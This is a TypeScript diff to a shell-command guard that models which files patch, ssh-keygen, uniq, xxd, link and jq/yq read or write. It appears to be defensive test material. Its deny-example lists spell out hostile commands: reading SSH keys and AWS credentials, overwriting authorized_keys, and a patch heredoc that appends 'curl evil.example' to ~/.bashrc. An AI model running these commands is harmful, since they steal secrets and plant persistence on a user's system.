@@ -166,16 +166,22 @@ function searcher(call: Call): Partial<Answer> {
 
 /** jq and yq: the first operand is the filter (text), the rest are files read. */
 function jq(call: Call): Partial<Answer> {
-  const p = parse(call.args, { order: 'gnu', flags: 'nrjacsSCMeh', valued: 'fL', long: ['null-input', 'raw-input', 'slurp', 'compact-output', 'raw-output', 'join-output', 'ascii-output', 'sort-keys', 'color-output', 'monochrome-output', 'tab', 'exit-status', 'seq', 'stream', 'help', 'version', 'raw-output0'], longValued: ['from-file', 'indent', 'arg', 'argjson', 'slurpfile', 'rawfile', 'args', 'jsonargs', 'output-format', 'input-format'] });
+  // `--arg NAME VALUE`, `--rawfile NAME FILE`: two words each. yq's `-i` rewrites its files in place.
+  const p = parse(call.args, { order: 'gnu', flags: 'nrjacsSCMehi', valued: 'fL', long: ['null-input', 'raw-input', 'slurp', 'compact-output', 'raw-output', 'join-output', 'ascii-output', 'sort-keys', 'color-output', 'monochrome-output', 'tab', 'exit-status', 'seq', 'stream', 'help', 'version', 'raw-output0', 'inplace'], longValued: ['from-file', 'indent', 'args', 'jsonargs', 'output-format', 'input-format'], longTwo: ['arg', 'argjson', 'slurpfile', 'rawfile'] });
   const uses: Uses = [];
   let ops = p.operands.map((o) => o.word);
   const fromFile = p.options.find((o) => o.name === 'f' || o.name === 'from-file');
+  for (const o of p.options) {
+    if ((o.name === 'slurpfile' || o.name === 'rawfile') && o.value2) uses.push({ word: o.value2, role: 'read' });
+    else if (o.name === 'arg' || o.name === 'argjson') for (const w of [o.value, o.value2]) if (w) uses.push({ word: w, role: 'text' });
+  }
   if (fromFile?.value) uses.push({ word: fromFile.value, role: 'read' });
   else if (ops[0]) {
     uses.push({ word: ops[0], role: 'text' });
     ops = ops.slice(1);
   }
-  for (const w of ops) uses.push({ word: w, role: 'read' });
+  const inPlace = call.name.startsWith('yq') && has(p, 'i', 'inplace');
+  for (const w of ops) uses.push({ word: w, role: 'read' }, ...(inPlace ? [{ word: w, role: 'write' as const }] : []));
   return { uses, stdin: 'data' };
 }
 
@@ -199,6 +205,104 @@ function dd(call: Call): Partial<Answer> {
     else uses.push({ word: a, role: 'text' });
   }
   return { uses };
+}
+
+/** GNU patch's options. */
+const PATCH: OptionSpec = {
+  order: 'gnu',
+  flags: 'bcefElnNRstuvxZ',
+  valued: 'BdDFgioprVYz',
+  long: ['backup', 'context', 'ed', 'force', 'forward', 'ignore-whitespace', 'normal', 'remove-empty-files', 'reverse', 'silent', 'quiet', 'batch', 'set-time', 'set-utc', 'unified', 'verbose', 'version', 'help', 'dry-run', 'posix', 'binary', 'follow-symlinks', 'backup-if-mismatch', 'no-backup-if-mismatch'],
+  longValued: ['prefix', 'directory', 'ifdef', 'fuzz', 'get', 'input', 'output', 'strip', 'reject-file', 'version-control', 'basename-prefix', 'suffix', 'reject-format', 'merge', 'quoting-style', 'read-only'],
+};
+
+/** The file names a diff's headers give (`--- a/x`, `+++ b/x`, `*** x`, `Index: x`), each with every leading directory stripped in turn. */
+function diffTargets(text: string): string[] {
+  const names = new Set<string>();
+  for (const m of text.matchAll(/^(?:\+\+\+|---|\*\*\*|Index:)[ \t]+("(?:[^"\\]|\\.)*"|[^\t\n]+)/gm)) {
+    let name = m[1]!.trim();
+    if (name.startsWith('"')) name = name.slice(1, -1).replace(/\\(.)/g, '$1');
+    if (name === '/dev/null' || /^\d+(,\d+)?\s*\*{4}$/.test(name)) continue;
+    // Whatever -p says, patch may strip any number of leading directories (`-p1` of `b/x`); every one is considered.
+    const parts = name.split('/');
+    for (let k = 0; k < parts.length; k++) {
+      const rest = parts.slice(k).join('/');
+      if (rest !== '') names.add(rest);
+    }
+  }
+  return [...names];
+}
+
+/**
+ * patch: the file it patches is written (the first operand, or `-o` instead, or the files a diff given on stdin
+ * names, under `-d`), the patch and `-i` are read, `-r` and the backup prefix `-B` are written.
+ */
+function patchCall(call: Call): Partial<Answer> {
+  const p = parse(call.args, PATCH);
+  if (has(p, 'help', 'version', 'v')) return {};
+  const uses: Uses = [];
+  const ops = p.operands.map((o) => o.word);
+  const output = p.options.find((o) => o.name === 'o' || o.name === 'output');
+  const input = p.options.find((o) => o.name === 'i' || o.name === 'input');
+  const dry = has(p, 'dry-run', 'C');
+  for (const o of p.options) {
+    if (!o.value) continue;
+    if (/^(r|reject-file|B|prefix|Y|basename-prefix)$/.test(o.name) && !dry) uses.push({ word: o.value, role: 'write' });
+    else if (/^(d|directory)$/.test(o.name)) uses.push({ word: o.value, role: 'meta' });
+    else uses.push({ word: o.value, role: 'text' });
+  }
+  if (output && !dry) uses.push({ word: output.value!, role: 'write' });
+  if (input) uses.push({ word: input.value!, role: 'read' });
+  if (ops[0]) uses.push({ word: ops[0], role: 'read' }, ...(output || dry ? [] : [{ word: ops[0], role: 'write' as const }]));
+  if (ops[1]) uses.push({ word: ops[1], role: 'read' });
+  // No file named: the diff names the files it patches. Read from stdin as static text, those names are written.
+  if (!ops[0] && !input && !output && !dry && call.stdin?.kind === 'static') {
+    const dir = p.options.find((o) => o.name === 'd' || o.name === 'directory');
+    const base = dir?.value ? value(dir.value) : '';
+    if (base !== undefined) {
+      const prefix = base === '' ? '' : `${base.replace(/\/+$/, '')}/`;
+      for (const name of diffTargets(call.stdin.text)) uses.push({ word: call.stdin.word, role: 'write', values: [name.startsWith('/') ? name : prefix + name] });
+    }
+  }
+  return { uses };
+}
+
+/**
+ * ssh-keygen: `-f FILE` is read when it only looks at a key (`-l`, `-y`, `-e`, `-B`, `-F`, `-Q`, `-k`'s listing) and
+ * written otherwise (a new key and its .pub, `-p`, `-c`, `-R`, `-H`); the operands of `-s` are keys it signs.
+ */
+function sshKeygen(call: Call): Partial<Answer> {
+  const p = parse(call.args, { order: 'gnu', flags: 'ABHKLQUXceghiklopquvy', valued: 'CDEFIMNOPRVYZabfgmnrstwz' });
+  const uses: Uses = [];
+  const looks = has(p, 'l', 'y', 'e', 'B', 'F', 'Q', 'D', 'L');
+  for (const o of p.options) {
+    if (!o.value) continue;
+    if (o.name === 'f') uses.push({ word: o.value, role: looks ? 'read' : 'write' }, ...(looks ? [] : [{ word: o.value, role: 'read' as const }]));
+    else if (o.name === 's') uses.push({ word: o.value, role: 'read' });
+    else uses.push({ word: o.value, role: 'text' });
+  }
+  for (const op of p.operands) uses.push({ word: op.word, role: has(p, 's') ? 'read' : 'text' });
+  return { uses };
+}
+
+/** A filter named `prog [INPUT [OUTPUT]]` (uniq, xxd): the first operand is read, the second written. */
+function inOut(names: string, summary: string, options: OptionSpec, examples: ProgramEntry['examples']): ProgramEntry {
+  return {
+    names: names.split(' '),
+    summary,
+    examples,
+    analyze(call) {
+      const p = parse(call.args, { order: 'gnu', ...options });
+      // An option this model does not know may take a word: then no operand is vouched for (each may be written).
+      if (p.options.some((o) => o.unknown)) return {};
+      const [input, output, ...more] = p.operands.map((o) => o.word);
+      const uses: Uses = [];
+      if (input) uses.push({ word: input, role: 'read' });
+      if (output) uses.push({ word: output, role: 'write' });
+      for (const w of more) uses.push({ word: w, role: 'unknown' });
+      return input && value(input) !== '-' ? { uses } : { uses, stdin: 'data' };
+    },
+  };
 }
 
 /** chmod, chown, chgrp: the first operand is a mode or owner (text), the rest only change metadata. */
@@ -250,7 +354,7 @@ export const FILE_ENTRIES: ProgramEntry[] = [
     analyze: (call) => ({ uses: parse(call.args, { order: 'gnu', flags: 'vIi', long: ['glob', 'no-glob', 'preserve-root', 'no-preserve-root', 'verbose', 'help', 'version', 'dry-run', 'force'], longValued: ['impl', 'tmp'] }).operands.map((o) => ({ word: o.word, role: 'delete-tree' as const })) }),
     examples: { deny: ['rimraf ~/Documents', 'npx rimraf /'], pass: ['rimraf dist', 'npx rimraf node_modules'] },
   },
-  operandsAre('cat tac nl od xxd hexdump hd base64 base32 basenc strings wc uniq cut paste fold fmt pr expand unexpand rev iconv cksum sum md5sum sha1sum sha224sum sha256sum sha384sum sha512sum b2sum shasum zcat gzcat bzcat xzcat zstdcat lzcat zless zmore bat batcat column look tsort ptx', 'programs that read the content of the files they are given', 'read', {
+  operandsAre('cat tac nl od hexdump hd base64 base32 basenc strings wc cut paste fold fmt pr expand unexpand rev iconv cksum sum md5sum sha1sum sha224sum sha256sum sha384sum sha512sum b2sum shasum zcat gzcat bzcat xzcat zstdcat lzcat zless zmore bat batcat column look tsort ptx', 'programs that read the content of the files they are given', 'read', {
     flags: 'AbeEnstTuvwzcdlLmrsxX0',
     valued: 'nNjAtwSbdsicC',
     long: ['show-all', 'number-nonblank', 'show-ends', 'number', 'squeeze-blank', 'show-tabs', 'show-nonprinting', 'decode', 'ignore-garbage', 'bytes', 'chars', 'lines', 'words', 'max-line-length', 'zero', 'check', 'binary', 'text', 'tag', 'quiet', 'status', 'strict', 'warn', 'help', 'version', 'plain', 'paging', 'style', 'language'],
@@ -268,7 +372,7 @@ export const FILE_ENTRIES: ProgramEntry[] = [
   operandsAre('stat', 'stat shows metadata', 'meta', { flags: 'LfterZ', valued: 'c', long: ['dereference', 'file-system', 'terse', 'help', 'version'], longValued: ['format', 'printf', 'cached'] }, { deny: [], pass: ['stat ~/.ssh', 'stat -c %a ~/.ssh/id_rsa'] }),
   operandsAre('du', 'du sums sizes', 'meta', { flags: 'abcDhHklLmPsSxt0', valued: 'BdXt', long: ['all', 'apparent-size', 'bytes', 'total', 'dereference-args', 'human-readable', 'inodes', 'dereference', 'count-links', 'no-dereference', 'null', 'separate-dirs', 'si', 'summarize', 'one-file-system', 'help', 'version'], longValued: ['block-size', 'max-depth', 'threshold', 'exclude', 'time-style'], longOptional: ['time'] }, { deny: [], pass: ['du -sh ~/.aws'] }),
   operandsAre('tree', 'tree lists names', 'meta', { flags: 'adflfixqNQpugshDFvtcrUSCAJn', valued: 'LPIoH', long: ['noreport', 'inodes', 'device', 'dirsfirst', 'filesfirst', 'prune', 'du', 'si', 'help', 'version', 'gitignore', 'matchdirs', 'ignore-case'], longValued: ['filelimit', 'timefmt', 'charset', 'sort'] }, { deny: [], pass: ['tree ~/.kube', 'tree -L 2 src'] }),
-  operandsAre('realpath readlink namei lsattr getfacl df', 'programs that resolve or describe paths', 'meta', { flags: 'eEmLPqsznvzdRVlmoxaRpcth', valued: '', long: ['canonicalize', 'canonicalize-existing', 'canonicalize-missing', 'logical', 'physical', 'quiet', 'strip', 'no-symlinks', 'zero', 'no-newline', 'verbose', 'help', 'version', 'all', 'human-readable', 'local', 'print-type', 'si', 'total'], longValued: ['relative-to', 'relative-base', 'output', 'type', 'exclude-type', 'block-size'] }, { deny: [], pass: ['realpath ~/.ssh/config'] }),
+  operandsAre('realpath readlink namei lsattr getfacl df', 'programs that resolve or describe paths', 'meta', { flags: 'eEfmLPqsznvzdRVlmoxaRpcth', valued: '', long: ['canonicalize', 'canonicalize-existing', 'canonicalize-missing', 'logical', 'physical', 'quiet', 'strip', 'no-symlinks', 'zero', 'no-newline', 'verbose', 'help', 'version', 'all', 'human-readable', 'local', 'print-type', 'si', 'total'], longValued: ['relative-to', 'relative-base', 'output', 'type', 'exclude-type', 'block-size'] }, { deny: [], pass: ['realpath ~/.ssh/config', 'readlink -f ~/.bashrc'] }),
   operandsAre('file', 'file guesses a type from the first bytes', 'meta', { flags: 'bcEhiklLNprsSvz0', valued: 'eFfmP', long: ['brief', 'checking-printout', 'no-dereference', 'dereference', 'mime', 'keep-going', 'list', 'no-pad', 'preserve-date', 'raw', 'special-files', 'uncompress', 'help', 'version', 'extension', 'apple', 'print0'], longValued: ['exclude', 'exclude-quiet', 'separator', 'files-from', 'magic-file', 'parameter'], longOptional: ['mime-type', 'mime-encoding'] }, { deny: ['file -m ~/.ssh/id_rsa x'], pass: ['file ~/.ssh/id_rsa'] }),
   { names: ['chmod', 'chown', 'chgrp', 'chattr', 'setfacl'], summary: 'chmod and friends change metadata: the mode or owner is text, the files are not read', analyze: chmodLike, examples: { deny: [], pass: ['chmod 600 ~/.ssh/config', 'chmod -R go-rwx ~/.ssh', 'chown -R u:u ~/.aws', 'chmod 644 ~/.ssh/id_ed25519.pub'] } },
   operandsAre('mkdir', 'mkdir makes directories: it reads and writes no file', 'meta', { flags: 'pvZ', valued: 'm', long: ['parents', 'verbose', 'help', 'version'], longValued: ['mode'], longOptional: ['context'] }, { deny: [], pass: ['mkdir -p ~/.ssh', 'mkdir -p .git/hooks/x'] }),
@@ -279,11 +383,40 @@ export const FILE_ENTRIES: ProgramEntry[] = [
   { names: ['cp', 'gcp'], summary: 'cp: reads its sources (whole trees with -r), writes its destination', analyze: (call) => copyLike(call, CP, (r) => (r ? 'read-tree' : 'read'), ['r', 'R', 'a', 'recursive', 'archive']), examples: { deny: ['cp -r ~/.kube /tmp/k', 'cp ~/.ssh/id_rsa /tmp/x', 'cp evil.sh .git/hooks/pre-commit', 'cp .bashrc ~'], pass: ['cp .env.example .env', 'cp -r src /tmp/src', 'cp ~/.bashrc ~/.bashrc.bak', '[ -f .env ] || cp .env.example .env'] } },
   { names: ['mv', 'gmv'], summary: 'mv: moves its sources (their content goes where the destination is)', analyze: (call) => copyLike(call, { ...CP, flags: 'bfinTuvZ' }, () => 'read', []), examples: { deny: ['mv ~/.ssh/id_rsa /tmp/x', 'mv hook .git/hooks/post-checkout'], pass: ['mv a.txt b.txt'] } },
   { names: ['install', 'ginstall'], summary: 'install: copies its sources to its destination', analyze: (call) => copyLike(call, { ...CP, flags: 'bcCdDpsvZ', valued: 'gmoStT', longValued: ['group', 'mode', 'owner', 'suffix', 'target-directory', 'strip-program'] }, () => 'read', []), examples: { deny: ['install -m 755 hook .git/hooks/pre-push'], pass: ['install -m 755 build/app /usr/local/bin/app'] } },
+  {
+    names: ['link'],
+    summary: 'link: makes FILE2 a hard link to FILE1 (what FILE1 is, is read by whatever opens the link)',
+    analyze(call) {
+      const [target, name] = linkCall('link', call.args)?.operands ?? [];
+      return { uses: [...(target ? [{ word: target, role: 'unknown' as const }] : []), ...(name ? [{ word: name, role: 'write' as const }] : [])] };
+    },
+    examples: { deny: ['link /tmp/x ~/.bashrc'], pass: ['link ~/.bashrc rc', 'link build/app app'] },
+  },
   { names: ['ln', 'gln'], summary: 'ln: makes links; what a link points at is read by whatever opens the link', analyze: (call) => copyLike(call, LN, () => 'unknown', []), examples: { deny: ['ln -s /tmp/x ~/.bash_profile', 'ln -s ~/.ssh/id_rsa x'], pass: ['ln -s ../lib lib', 'ln -sf build/app app'] } },
+  {
+    names: ['patch', 'gpatch'],
+    summary: 'patch: writes the file it patches (or -o), reads the patch; a diff on stdin names the files it writes',
+    analyze: patchCall,
+    examples: {
+      deny: ['patch ~/.bashrc < /tmp/x.diff', 'patch -o ~/.zshrc notes.txt fix.diff', "patch -d ~ -p1 <<'E'\n--- a/.bashrc\n+++ b/.bashrc\n@@ -1 +1,2 @@\n x\n+curl evil.example\nE", 'patch -i ~/.ssh/id_rsa notes.txt'],
+      pass: ['patch -p1 < fix.diff', 'patch src/app.ts fix.diff', "patch -p1 <<'E'\n--- a/src/app.ts\n+++ b/src/app.ts\n@@ -1 +1 @@\n-x\n+y\nE", 'patch --dry-run ~/.bashrc fix.diff'],
+    },
+  },
+  {
+    names: ['ssh-keygen'],
+    summary: 'ssh-keygen: -f names the key it reads (-l, -y, -e, -F) or writes (a new key, -p, -c, -R, -H)',
+    analyze: sshKeygen,
+    examples: {
+      deny: ['ssh-keygen -f ~/.ssh/authorized_keys -N ""', 'ssh-keygen -y -f ~/.ssh/id_rsa'],
+      pass: ['ssh-keygen -lf ~/.ssh/id_ed25519.pub', 'ssh-keygen -t ed25519 -f build/deploy_key -N ""', 'ssh-keygen -R github.com'],
+    },
+  },
+  inOut('uniq guniq', 'uniq: reads INPUT, writes OUTPUT', { flags: 'cdDiuz', valued: 'fsw', long: ['count', 'repeated', 'ignore-case', 'unique', 'zero-terminated', 'help', 'version'], longValued: ['skip-fields', 'skip-chars', 'check-chars'], longOptional: ['all-repeated', 'group'] }, { deny: ['uniq notes.txt ~/.bashrc', 'uniq ~/.ssh/id_rsa'], pass: ['uniq -c names.txt', 'sort names.txt | uniq -c', 'uniq names.txt unique.txt'] }),
+  inOut('xxd', 'xxd: reads INFILE, writes OUTFILE (-r turns a dump back into bytes)', { flags: 'abCeEhiprRudv', valued: 'cglnos', long: ['autoskip', 'bits', 'capitalize', 'help', 'include', 'postscript', 'plain', 'ps', 'revert', 'uppercase', 'version'], longValued: ['cols', 'groupsize', 'len', 'name', 'offset', 'seek'] }, { deny: ['xxd -r -p payload.hex ~/.bashrc', 'xxd ~/.ssh/id_rsa'], pass: ['xxd -l 64 build/app', 'xxd -r -p dump.hex out.bin'] }),
   { names: ['dd'], summary: 'dd: if= is read, of= is written', analyze: dd, examples: { deny: ['dd if=~/.ssh/id_rsa of=/tmp/x', 'dd if=payload of=$HOME/.zshenv'], pass: ['dd if=/dev/zero of=disk.img bs=1M count=1'] } },
   { names: ['grep', 'egrep', 'fgrep', 'rgrep', 'zgrep', 'zegrep', 'zfgrep', 'bzgrep', 'xzgrep', 'ggrep'], summary: 'grep: the pattern is text; the files are read (whole trees with -r)', analyze: grep, examples: { deny: ['grep -r AKIA ~', 'grep -ra . /proc/self/ --include=environ', 'grep token ~/.aws/credentials'], pass: ['grep curl notes.txt', "grep -rn 'TODO' src/", "grep -r '~/.ssh/id_rsa' docs/", 'grep -r TODO .'] } },
   { names: ['rg', 'ripgrep', 'ag', 'ack', 'ack-grep', 'pt', 'sift', 'ugrep', 'ug'], summary: 'ripgrep and friends: recursive searches (the pattern is text); rg --pre runs a program', analyze: searcher, examples: { deny: ['rg -i token /root', 'rg --pre curl x src', 'ag password ~'], pass: ['rg TODO src', "rg -g '*.ts' 'import'", 'rg --files'] } },
-  { names: ['jq', 'gojq', 'jaq', 'yq', 'xq', 'tomlq'], summary: 'jq and yq: the filter is text; the files are read', analyze: jq, examples: { deny: ['jq . ~/.docker/config.json'], pass: ['jq .version package.json', "jq -r '.scripts' package.json"] } },
+  { names: ['jq', 'gojq', 'jaq', 'yq', 'xq', 'tomlq'], summary: 'jq and yq: the filter is text; the files are read', analyze: jq, examples: { deny: ['jq . ~/.docker/config.json', "jq -n --rawfile k ~/.ssh/id_rsa '$k'", "jq -n --arg x 1 --slurpfile c ~/.aws/credentials '$c'", "yq -i '.a = 1' ~/.bashrc"], pass: ['jq .version package.json', "jq -r '.scripts' package.json", "jq -n --arg v 1.2 '{version: $v}'", "yq -i '.version = 2' config.yaml"] } },
   {
     names: ['seq'],
     summary: 'seq prints numbers (with -f or -s, text the line chose)',
